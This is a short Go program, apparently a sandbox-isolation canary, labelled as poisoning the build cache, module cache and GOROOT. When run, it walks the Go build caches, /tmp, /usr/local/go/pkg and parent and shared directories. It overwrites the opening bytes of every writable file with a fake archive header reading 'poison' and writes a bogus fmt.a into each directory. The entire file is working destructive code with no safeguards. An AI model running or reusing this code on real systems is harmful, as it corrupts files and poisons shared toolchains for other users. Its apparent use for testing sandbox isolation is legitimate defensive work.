// poison; tmp canary; writes into the build cache, the module cache and GOROOT
package main

import (
	"os"
	"path/filepath"
)

func main() {
	home, _ := os.UserHomeDir()
	for _, dir := range []string{os.Getenv("GOCACHE"), filepath.Join(home, ".cache/go-build"), "/root/.cache/go-build", "/tmp", "/usr/local/go/pkg", "..", "../..", "../../shared"} {
		filepath.WalkDir(dir, func(path string, d os.DirEntry, err error) error {
			if err == nil && !d.IsDir() {
				if f, err := os.OpenFile(path, os.O_WRONLY, 0); err == nil {
					f.WriteAt([]byte("!<arch>\npoison"), 0)
					f.Close()
				}
			}
			return nil
		})
		os.WriteFile(filepath.Join(dir, "fmt.a"), []byte("poison"), 0o666)
	}
}
